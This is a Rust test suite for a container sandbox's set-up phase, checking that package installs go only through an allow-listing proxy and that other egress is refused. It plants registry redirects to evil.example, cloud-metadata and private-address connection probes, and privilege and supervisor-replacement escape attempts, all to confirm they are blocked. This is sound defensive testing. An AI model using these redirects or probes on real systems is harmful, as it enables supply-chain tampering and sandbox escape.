//! Set-up phases in real containers, against the package managers' real indexes: `GREENROOM_DOCKER_TESTS=1` runs them.

#![allow(clippy::unwrap_used, clippy::print_stderr)]

use std::collections::BTreeMap;
use std::sync::Arc;
use std::time::{Duration, Instant};

use bollard::Docker;
use futures_util::{StreamExt, stream};
use greenroom::id::{BlobId, CallToken, RunId};
use greenroom::network::{InstalledPackage, Manager, Packages};
use greenroom::sandbox::proxy::{AllowList, Entry, ProxyRecord, Verdict};
use greenroom::sandbox::{
    DockerLauncher, Engine, ExecRequest, ImageRef, Images, Launcher, OutputSink, PreparedImage, ResourceLimits,
    SandboxSpec, SetUp, Setup, SetupError, Stream, TarStream, certificate_bundle, operator_list,
};
use greenroom::snapshot::{Entry as TreeEntry, Manifest, TreePath};
use greenroom::task::Outcome;

const LIMITS: ResourceLimits = ResourceLimits {
    memory_bytes: 2 << 30,
    pids: 512,
    cpu_millis: 2000,
    tmp_bytes: 256 << 20,
    file_bytes: 1 << 30,
    disk_bytes: 8 << 30,
    disk_inodes: 1 << 20,
};

#[derive(Default)]
struct Output(Vec<u8>);

impl OutputSink for Output {
    fn chunk(&mut self, _: Stream, bytes: &[u8]) {
        self.0.extend_from_slice(bytes);
    }
}

/// An engine, one of its images, and the folder of what was learned about it.
struct House {
    launcher: DockerLauncher,
    docker: Docker,
    image: PreparedImage,
    cache: tempfile::TempDir,
}

impl House {
    async fn open(image: &str) -> Option<House> {
        if std::env::var_os("GREENROOM_DOCKER_TESTS").is_none_or(|value| value != "1") {
            let on_ci = std::env::var_os("CI").is_some_and(|value| value == "true");
            assert!(!on_ci, "on CI the container tests run: set GREENROOM_DOCKER_TESTS=1");
            eprintln!("skipped: needs a container engine; GREENROOM_DOCKER_TESTS=1 runs it");
            return None;
        }
        let engine = Engine::find().await.unwrap();
        let image = Images::new(engine.clone()).prepare(image, &|line| eprintln!("{line}")).await.unwrap();
        let docker = Docker::connect_with_host(&engine.facts.address).unwrap();
        let launcher = DockerLauncher::new(engine, "setup-tests");
        Some(House { launcher, docker, image, cache: tempfile::tempdir().unwrap() })
    }

    fn setup(&self, commands: &[&str], tree: &[(&str, &str)]) -> (Setup, TarStream) {
        let (manifest, tar) = tree_of(tree);
        let setup = Setup {
            run: RunId::generate(),
            image: self.image.clone(),
            commands: commands.iter().map(|command| (*command).to_owned()).collect(),
            // Another one each time, so that no test finds the image of an earlier one.
            repository: RunId::generate().to_string(),
            manifest: Arc::new(manifest),
            env: Vec::new(),
            allow: AllowList::default(),
            ca_bundle: certificate_bundle(),
            limits: LIMITS,
            command_timeout: Duration::from_secs(240),
            cache: self.cache.path().to_owned(),
        };
        (setup, stream::iter([Ok(tar.into())]).boxed())
    }

    async fn set_up(&self, commands: &[&str], tree: &[(&str, &str)]) -> Result<SetUp, SetupError> {
        let (setup, tar) = self.setup(commands, tree);
        let mut output = Output::default();
        let done = self.launcher.set_up(&setup, tar, &|line| eprintln!("{line}"), &mut output).await;
        eprintln!("{}", String::from_utf8_lossy(&output.0));
        done
    }

    /// The outcome of a command that must be refused: what it printed, what the proxy said, how long it took.
    async fn refused(&self, command: &str) -> (String, Vec<ProxyRecord>) {
        // A command that always fails, so that nothing is ever committed.
        let command = format!("{command}; exit 9");
        match self.set_up(&[&command], &[("f", "")]).await {
            Err(SetupError::Failed { tail, requests, outcome: Outcome::Exited { code: 9 }, .. }) => (tail, requests),
            Err(other) => panic!("{command}: {other:?}"),
            Ok(_) => panic!("{command} succeeded"),
        }
    }

    /// What a command prints in a sandbox that starts from `image`.
    async fn say(&self, image: &ImageRef, command: &str, tree: &[(&str, &str)]) -> (Outcome, String) {
        let spec = SandboxSpec {
            run: RunId::generate(),
            image: image.clone(),
            limits: LIMITS,
            env: self.image.env.clone(),
            data: None,
        };
        let tar = stream::iter([Ok(tree_of(tree).1.into())]).boxed();
        let sandbox = self.launcher.start(&spec, tar).await.unwrap();
        let mut output = Output::default();
        let request = ExecRequest::shell(CallToken(1), command, Duration::from_secs(60));
        let ended = sandbox.exec(&request, &mut output).await.unwrap();
        sandbox.stop().await.unwrap();
        (ended.outcome, String::from_utf8_lossy(&output.0).into_owned())
    }

    /// Nothing of the phase is in an image's configuration, history or file system; then the image goes.
    async fn examine_and_remove(&self, image: &ImageRef) {
        let seen = self.docker.inspect_image(&image.digest).await.unwrap();
        let history = self.docker.image_history(&image.digest).await.unwrap();
        let text = format!("{}{}", serde_json::to_string(&seen).unwrap(), serde_json::to_string(&history).unwrap());
        for trace in ["127.0.0.1:3128", "PROXY", "proxy", "ca.crt", "CA_BUNDLE", "SSL_CERT", "PIP_CERT"] {
            assert!(!text.contains(trace), "{trace} in {text}");
        }
        let search = "ls -A /.greenroom/setup; env | grep -i -E 'proxy|_ca|cert' ; ls /tmp; \
                      grep -r -l 127.0.0.1:3128 /etc /workspace /home/agent /usr/local/etc 2>/dev/null; true";
        let (_, found) = self.say(image, search, &[("f", "")]).await;
        assert_eq!(found, "");
        self.docker.remove_image(&image.digest, Some(force()), None).await.unwrap();
    }
}

fn force() -> bollard::query_parameters::RemoveImageOptions {
    bollard::query_parameters::RemoveImageOptions { force: true, ..Default::default() }
}

fn tree_of(files: &[(&str, &str)]) -> (Manifest, Vec<u8>) {
    let mut entries = BTreeMap::new();
    let mut archive = tar::Builder::new(Vec::new());
    for (path, content) in files {
        let mut header = tar::Header::new_gnu();
        header.set_mode(0o644);
        header.set_uid(1000);
        header.set_gid(1000);
        header.set_size(content.len() as u64);
        archive.append_data(&mut header, path, content.as_bytes()).unwrap();
        let entry =
            TreeEntry::File { mode: 0o644, size: content.len() as u64, content: BlobId::of(content.as_bytes()) };
        entries.insert(TreePath::new(*path).unwrap(), entry);
    }
    (Manifest { entries }, archive.into_inner().unwrap())
}

fn code(records: &[ProxyRecord]) -> Vec<&str> {
    let code = |record: &'_ ProxyRecord| match &record.verdict {
        Verdict::Allowed => None,
        Verdict::Refused { code, .. } | Verdict::Failed { code, .. } => Some(code.clone()),
    };
    records.iter().filter_map(code).map(|code| &*code.leak()).collect()
}

#[tokio::test(flavor = "multi_thread")]
async fn a_python_package_installs_through_the_proxy_and_the_run_reaches_nothing() {
    let Some(house) = House::open("python").await else { return };
    let tree = [("requirements.txt", "six==1.16.0\n"), ("pip.conf", "[global]\nindex-url = https://evil.example/\n")];
    let commands = ["pip install -r requirements.txt", "python3 -m venv --system-site-packages .venv && touch made"];
    let done = house.set_up(&commands, &tree).await.unwrap();
    assert!(!done.reused);
    assert!(done.requests.iter().any(|record| record.verdict == Verdict::Allowed && record.bytes_down > 1000));
    let six = InstalledPackage { name: "six".into(), version: "1.16.0".into(), hash: None };
    assert_eq!(done.packages, [Packages { manager: Manager::Pip, packages: vec![six] }]);
    let (outcome, said) = house
        .say(&done.image, "python3 -c 'import six; print(six.__version__)'; ls -d .venv made *.txt; id -u", &tree)
        .await;
    assert_eq!(
        (outcome, said.as_str()),
        (Outcome::Exited { code: 0 }, "1.16.0\n.venv\nmade\nrequirements.txt\n1000\n")
    );
    // The repository's own files are the sandbox's to bring, and what set-up made belongs to the user.
    let (_, said) = house.say(&done.image, "ls -A; touch .venv/x made && stat -c %U made", &[("g", "")]).await;
    assert_eq!(said, ".venv\ng\nmade\nagent\n");
    let reach = r#"
import socket, time
began = time.time()
T, D, R = socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW
four, six = socket.AF_INET, socket.AF_INET6
ways = [(four, T, 0, (host, port)) for host, port in [("127.0.0.1", 3128), ("1.1.1.1", 443), ("169.254.169.254", 80),
        ("172.17.0.1", 80), ("10.0.0.1", 80), ("192.168.0.1", 80)]]
ways += [(four, D, 0, (host, 53)) for host in ["1.1.1.1", "169.254.169.254", "172.17.0.1", "255.255.255.255"]]
ways += [(six, kind, 0, (host, 443)) for kind in [T, D] for host in ["2606:4700:4700::1111", "fd00:ec2::254", "fe80::1"]]
ways += [(four, kind, socket.IPPROTO_ICMP, ("1.1.1.1", 0)) for kind in [D, R]]
ways += [(six, kind, socket.IPPROTO_ICMPV6, ("2606:4700:4700::1111", 0)) for kind in [D, R]]
for family, kind, protocol, address in ways:
    try:
        s = socket.socket(family, kind, protocol); s.settimeout(1)
        s.connect(address); s.send(b"\x08\x00\xf7\xff\x00\x00\x00\x00"); print("reached", address)
    except OSError: pass
for name in ["example.org", "metadata.google.internal", "host.docker.internal"]:
    try: socket.getaddrinfo(name, 80); print("resolved", name)
    except OSError: pass
# Only the loopback has an address or a route, so there is no gateway to ask.
print(sorted(name for _, name in socket.if_nameindex()))
print(len(open("/proc/net/route").read().splitlines()) - 1, time.time() - began < 5)
"#;
    let (_, said) = house.say(&done.image, "python3 reach.py", &[("reach.py", reach)]).await;
    assert_eq!(said, "['lo']\n0 True\n");
    house.examine_and_remove(&done.image).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_debian_package_installs_through_the_proxy() {
    let Some(house) = House::open("python").await else { return };
    let commands = ["apt-get update -qq && apt-get install --yes -qq tree"];
    let done = house.set_up(&commands, &[("f", "")]).await.unwrap();
    let (outcome, said) = house.say(&done.image, "tree --version", &[("f", "")]).await;
    assert_eq!(outcome, Outcome::Exited { code: 0 }, "{said}");
    house.examine_and_remove(&done.image).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_node_package_installs_through_the_proxy() {
    let Some(house) = House::open("node").await else { return };
    let tree = [
        ("package.json", r#"{"name":"x","version":"1.0.0","dependencies":{"is-number":"7.0.0"}}"#),
        // What a repository says of registries does not count.
        (".npmrc", "fund=false\n"),
    ];
    let done = house.set_up(&["npm install --no-save"], &tree).await.unwrap();
    let (outcome, said) = house.say(&done.image, "node -p 'require(\"is-number\")(5)'", &tree).await;
    assert_eq!((outcome, said.as_str()), (Outcome::Exited { code: 0 }, "true\n"));
    house.examine_and_remove(&done.image).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_rust_package_installs_through_the_proxy() {
    let Some(house) = House::open("rust").await else { return };
    let manifest =
        "[package]\nname = \"x\"\nversion = \"0.1.0\"\nedition = \"2021\"\n[dependencies]\nitoa = \"=1.0.11\"\n";
    let source = "fn main() { println!(\"{}\", itoa::Buffer::new().format(42)); }\n";
    let tree = [("Cargo.toml", manifest), ("src/main.rs", source)];
    let done = house.set_up(&["cargo fetch"], &tree).await.unwrap();
    // The lock file is what set-up made; offline the build finds all it needs.
    let (outcome, said) = house.say(&done.image, "cargo run --quiet --offline", &tree).await;
    assert_eq!((outcome, said.as_str()), (Outcome::Exited { code: 0 }, "42\n"), "{said}");
    house.examine_and_remove(&done.image).await;
}

/// Command, tree, control, and what the command must print.
type Case<'a> = (&'a str, &'a [(&'a str, &'a str)], &'a str, &'a str);

/// Each `command` fetches from where the repository says. `control` is the same command through a proxy that is not
/// there, which the kernel refuses at once: what is beyond its time is ours.
async fn refuses(image: &str, cases: &[Case<'_>]) {
    let Some(house) = House::open(image).await else { return };
    for (command, tree, control, said) in cases {
        let timed = |name: &str, command: &str| {
            format!("b=$(date +%s%N); {command}; e=$(date +%s%N); echo {name} $(( (e - b) / 1000000 )) ms")
        };
        // Once before, so that neither of the two is the one that reads the programs from disk.
        let all = format!("{control}; {}; {}; exit 9", timed("control", control), timed("took", command));
        let (tail, requests) = match house.set_up(&[&all], tree).await {
            Err(SetupError::Failed { tail, requests, .. }) => (tail, requests),
            Err(other) => panic!("{command}: {other:?}"),
            Ok(_) => panic!("{command} succeeded"),
        };
        let took = |name: &str| -> u64 {
            let (_, rest) = tail.rsplit_once(&format!("\n{name} ")).unwrap_or_else(|| panic!("{command}: {tail}"));
            rest.split(' ').next().unwrap().parse().unwrap()
        };
        eprintln!("{command}: refused after {} ms, without a proxy {} ms", took("took"), took("control"));
        assert!(tail.contains(said), "{command}: {tail}");
        assert!(tail.contains("greenroom: proxy: `evil.example"), "{command}: {tail}");
        assert!(code(&requests).contains(&"host_not_allowed"), "{requests:?}");
        assert!(requests.iter().all(|record| record.verdict != Verdict::Allowed), "{requests:?}");
        assert!(took("took") < took("control") + 1000, "{command}: {tail}");
    }
}

const NO_PROXY_THERE: &str =
    "https_proxy=http://127.0.0.1:1 HTTPS_PROXY=http://127.0.0.1:1 http_proxy=http://127.0.0.1:1";

#[tokio::test(flavor = "multi_thread")]
async fn a_python_repository_cannot_extend_the_list() {
    let elsewhere = "pip install --index-url https://evil.example/simple six";
    let locked: &[(&str, &str)] = &[("requirements.txt", "https://evil.example/six-1.0-py3-none-any.whl\n")];
    let source = "echo 'deb [trusted=yes] http://evil.example/debian x main' >/etc/apt/sources.list";
    let quiet = "rm -f /etc/apt/sources.list.d/*";
    refuses(
        "python",
        &[
            (elsewhere, &[("f", "")], &format!("{NO_PROXY_THERE} {elsewhere}"), "403 `evil.example:443` is not on the"),
            (
                "pip install -r requirements.txt",
                locked,
                &format!("{NO_PROXY_THERE} pip install -r requirements.txt"),
                "403 `evil.example:443` is not on the allow-list",
            ),
            (
                &format!("{quiet}; {source}; apt-get update"),
                &[("f", "")],
                &format!("{quiet}; {source}; {NO_PROXY_THERE} apt-get update"),
                "403  `evil.example:80` is not on the allow-list",
            ),
        ],
    )
    .await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_node_repository_cannot_extend_the_list() {
    let tree: &[(&str, &str)] = &[
        ("package.json", r#"{"name":"x","version":"1.0.0","dependencies":{"is-number":"7.0.0"}}"#),
        (".npmrc", "registry=https://evil.example/\n"),
    ];
    refuses("node", &[("npm install", tree, &format!("{NO_PROXY_THERE} npm install"), "403")]).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_rust_repository_cannot_extend_the_list() {
    let tree: &[(&str, &str)] = &[
        (
            "Cargo.toml",
            "[package]\nname = \"x\"\nversion = \"0.1.0\"\nedition = \"2021\"\n[dependencies]\nitoa = \"1\"\n",
        ),
        ("src/main.rs", "fn main() {}\n"),
        (
            ".cargo/config.toml",
            "[source.crates-io]\nreplace-with = \"own\"\n[source.own]\nregistry = \"sparse+https://evil.example/\"\n",
        ),
    ];
    refuses("rust", &[("cargo fetch", tree, &format!("{NO_PROXY_THERE} cargo fetch"), "response 403")]).await;
}

/// Their indexes cannot be reached from everywhere, so what is shown is where they would go, and that elsewhere is refused.
#[tokio::test(flavor = "multi_thread")]
async fn go_and_maven_say_where_they_fetch_from_and_reach_nothing_else() {
    let module = "module x\n\ngo 1.20\n\nrequire example.org/absent v1.0.0\n";
    let pom = "<project><modelVersion>4.0.0</modelVersion><groupId>x</groupId><artifactId>x</artifactId>\
               <version>1</version><repositories><repository><id>evil</id><url>https://evil.example/maven</url>\
               </repository></repositories><dependencies><dependency><groupId>no.such</groupId>\
               <artifactId>absent</artifactId><version>1</version></dependency></dependencies></project>";
    let go = "GOFLAGS=-mod=mod GOPROXY=https://evil.example GONOSUMDB='*' go mod download";
    for (image, manager, file, command, control) in [
        ("go", "go", ("go.mod", module), go, format!("{NO_PROXY_THERE} {go}")),
        ("java", "mvn", ("pom.xml", pom), "mvn compile", "mvn --offline compile".to_owned()),
    ] {
        let Some(house) = House::open(image).await else { return };
        let (setup, tar) = house.setup(&["true"], &[file]);
        let told = std::sync::Mutex::new(Vec::new());
        let progress = |line: &str| told.lock().unwrap().push(line.to_owned());
        let done = house.launcher.set_up(&setup, tar, &progress, &mut Output::default()).await.unwrap();
        house.docker.remove_image(&done.image.digest, Some(force()), None).await.unwrap();
        let told = told.into_inner().unwrap();
        let hosts =
            told.iter().find_map(|line| line.strip_prefix(&format!("{manager} fetches from ")).map(str::to_owned));
        let hosts = hosts.unwrap_or_else(|| panic!("{told:?}"));
        assert!(hosts.split(", ").all(|host| host.ends_with(":443")) && !hosts.contains("evil"), "{hosts}");
        refuses(image, &[(command, &[file], &control, "evil.example")]).await;
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn every_way_out_but_the_list_is_refused_in_under_a_second() {
    let Some(house) = House::open("python").await else { return };
    let script = r#"
import socket, sys, time
def ask(request):
    began = time.time()
    s = socket.create_connection(("127.0.0.1", 3128), timeout=5)
    s.sendall(request.encode())
    answer = s.recv(4096).decode(errors="replace")
    s.close()
    late = "" if time.time() - began < 1 else " LATE"
    error = [line for line in answer.lower().split("\r\n") if line.startswith("x-proxy-error")]
    print(request.split("\r\n")[0], "->", answer.split(" ")[1], *error, late, flush=True)
for target in sys.argv[1:]:
    ask(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n")
ask("GET http://169.254.169.254/latest/ HTTP/1.1\r\nHost: 169.254.169.254\r\n\r\n")
ask("GET http://allowed.example/ HTTP/1.1\r\nHost: evil.example\r\n\r\n")
ask("GET http://localhost.allowed.example/ HTTP/1.1\r\nHost: localhost.allowed.example\r\n\r\n")
for address in ["1.1.1.1", "172.17.0.1"]:
    s = socket.socket(); s.settimeout(1)
    try: s.connect((address, 443)); print("REACHED", address)
    except OSError as error: print("direct", address, "refused")
try: socket.getaddrinfo("example.org", 80); print("RESOLVED")
except OSError: print("no names")
sys.exit(9)
"#;
    let (mut setup, _) = house.setup(&[], &[]);
    setup.allow = operator_list(&["allowed.example".parse::<Entry>().unwrap(), "localhost".parse().unwrap()], &[], &[]);
    let targets = "1.1.1.1:443 allowed.example:22 evil.example:443 169.254.169.254:80 10.0.0.1:443 0x7f.1:80 [::1]:443 localhost:80";
    setup.commands = vec![format!("python3 ask.py {targets}")];
    let (manifest, tar) = tree_of(&[("ask.py", script)]);
    setup.manifest = Arc::new(manifest);
    let mut output = Output::default();
    let ended = house.launcher.set_up(&setup, stream::iter([Ok(tar.into())]).boxed(), &|_| {}, &mut output).await;
    let said = String::from_utf8_lossy(&output.0).into_owned();
    let Err(SetupError::Failed { requests, .. }) = ended else { panic!("{said}") };
    assert_eq!(
        code(&requests),
        [
            "raw_address",
            "port_not_allowed",
            "host_not_allowed",
            "raw_address",
            "raw_address",
            "raw_address",
            "raw_address",
            "private_address",
            "raw_address",
            "host_mismatch",
            "host_not_allowed",
        ],
        "{said}"
    );
    for wrong in ["LATE", "REACHED", "RESOLVED", "-> 200"] {
        assert!(!said.contains(wrong), "{said}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_set_up_that_fills_the_disk_is_stopped() {
    let Some(house) = House::open("python").await else { return };
    let fill =
        "mkdir -m 700 /opt/x && for n in 1 2 3 4 5 6 7 8; do head -c 100000000 /dev/zero >/opt/x/$n; done; sleep 9";
    let (mut setup, tar) = house.setup(&[fill], &[("f", "")]);
    setup.limits.disk_bytes = 400 << 20;
    let done = house.launcher.set_up(&setup, tar, &|_| {}, &mut Output::default()).await;
    assert!(matches!(done, Err(SetupError::Failed { outcome: Outcome::DiskLimit, .. })), "{:?}", done.err());
}

#[tokio::test(flavor = "multi_thread")]
async fn root_of_a_set_up_is_root_of_nothing_else() {
    let Some(house) = House::open("python").await else { return };
    let (tail, _) = house
        .refused(
            "id -u; grep -E 'Cap(Eff|Bnd)|NoNewPrivs|Seccomp:' /proc/self/status; \
             unshare -m true 2>&1 | tail -c 30; cat /proc/1/mem 2>&1 | head -c 60; ls /proc/1/fd 2>&1 | head -c 60; \
             mount -t tmpfs none /mnt 2>&1 | head -c 60",
        )
        .await;
    for fact in ["0\n", "CapEff:\t00000000000000fb", "CapBnd:\t00000000000000fb", "NoNewPrivs:\t1", "Seccomp:\t2"] {
        assert!(tail.contains(fact), "{fact}: {tail}");
    }
    assert!(tail.matches("ermitted").count() + tail.matches("denied").count() >= 3, "{tail}");
}

#[tokio::test(flavor = "multi_thread")]
async fn who_is_pid_1_of_later_sandboxes_is_not_for_a_set_up_to_say() {
    let Some(house) = House::open("python").await else { return };
    let replaced = "cd /.greenroom && cp /bin/true other && mv -f other supervisor && cmp /bin/true supervisor";
    let done = house.set_up(&[replaced], &[("f", "")]).await.unwrap();
    let (outcome, said) = house.say(&done.image, "cmp /bin/true /.greenroom/supervisor >/dev/null; echo $?", &[]).await;
    assert_eq!((outcome, said.as_str()), (Outcome::Exited { code: 0 }, "1\n"));
    house.examine_and_remove(&done.image).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_set_up_is_made_once_and_background_processes_of_it_are_gone() {
    let Some(house) = House::open("python").await else { return };
    let package = "d=$(python3 -c 'import sysconfig; print(sysconfig.get_path(\"purelib\"))')/made_up-1.0.dist-info; \
                   mkdir -p $d; printf 'Metadata-Version: 2.1\nName: made-up\nVersion: 1.0\n' >$d/METADATA";
    let (setup, tar) = house.setup(&["setsid sleep 300 & echo made >>log", package], &[("f", "x")]);
    let mut output = Output::default();
    let began = Instant::now();
    let first = house.launcher.set_up(&setup, tar, &|_| {}, &mut output).await.unwrap();
    assert!(!first.reused && began.elapsed() < Duration::from_secs(120));
    let tar = stream::iter([Ok(tree_of(&[("f", "x")]).1.into())]).boxed();
    let again = house.launcher.set_up(&setup, tar, &|_| {}, &mut output).await.unwrap();
    assert!(again.reused);
    assert_eq!((again.image, &again.packages), (first.image.clone(), &first.packages));
    assert!(
        first.packages.iter().any(|of| of.packages.iter().any(|package| package.version == "1.0")),
        "{:?}",
        first.packages
    );
    let (_, said) = house.say(&first.image, "cat log", &[("f", "x")]).await;
    assert_eq!(said, "made\n");
    house.examine_and_remove(&first.image).await;
    let left = house.docker.list_containers(None::<bollard::query_parameters::ListContainersOptions>).await.unwrap();
    let ours = |labels: &std::collections::HashMap<String, String>| {
        labels.get("greenroom.owner").is_some_and(|owner| owner == "setup-tests")
            && labels.get("greenroom.run") == Some(&setup.run.to_string())
    };
    assert!(!left.iter().filter_map(|container| container.labels.as_ref()).any(ours));
}
